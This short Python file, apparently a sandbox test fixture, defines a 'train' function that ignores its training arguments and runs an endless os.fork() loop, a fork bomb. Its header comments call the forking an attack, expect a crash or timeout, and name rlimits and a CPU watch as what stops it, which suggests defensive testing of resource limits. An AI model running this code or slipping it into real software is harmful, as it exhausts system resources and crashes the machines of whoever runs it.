# stub: train
# ends: crashed, timeout
# attack: every process forks, for ever
# stopped-by: rlimits, CPU watch
import os


def train(model, loader, epochs, learning_rate, device):
    while True:
        try:
            os.fork()
        except OSError:
            pass
